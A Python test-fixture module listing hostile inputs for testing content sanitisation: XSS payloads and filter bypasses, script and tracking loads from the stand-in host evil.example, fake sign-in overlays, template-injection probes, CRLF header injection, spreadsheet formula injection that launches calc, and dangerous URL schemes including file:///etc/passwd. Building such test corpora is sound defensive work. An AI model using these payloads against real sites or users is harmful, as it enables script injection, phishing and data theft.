"""What a hostile article may hold: words that would become markup, script, styles, headers or formulas."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "</p></div></main><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "javascript:alert(1)//",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java&#9;script:alert(1)">x</a>',
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
]
FRAMES = [
    "</mark></a><iframe srcdoc='<b>x</b>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<!--><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/leak>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:red'>Sign in</div>",
    "<img src=//evil.example/pixel.gif>",
    "<dialog open>Your session has ended</dialog>",
    "</textarea></select></title></style></script><h1>Other page</h1>",
    "<a id=content></a><form id=find></form><input name=id>",
    "<a id=keys-on data-key=a accesskey=a href=//evil.example>x</a>",
]
TEMPLATES = [
    "{{ 7*7 }}{% raw %}",
    "{{ config }}{{ self.__init__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{% include 'base.html' %}",
]
TURNS = [
    "\u202eevil\u202c \u2066hidden\u2069 \u200fturn",
    "\x07bell\x1b[31mescape\x1b[0m \x9b2J",
    "zero\u200bwidth\u200djoined\ufeff \u00ad soft",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo"
    * 40,
]
WIDE = ["W" * 4_000, "a.b/" * 1_500, "\u2060".join("ab" * 500), "_" * 2_000, "\u0e01" * 2_000]
HEADERS = [
    "x\r\nset-cookie: a=b\r\n\r\n<b>",
    'x"; filename="evil.exe',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
PAYLOADS = [*SCRIPTS, *FRAMES, *TEMPLATES, *TURNS, *WIDE, *HEADERS]
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
    "//evil.example/x", "https:evil", "file:///etc/passwd", "java\nscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "blob:https://evil.example/x", "https://a.example@evil.example:x/",
    'https://a.example/"onclick="alert(1)', "https://[broken", "https://a.example/\u202egpj.exe",
]  # fmt: skip
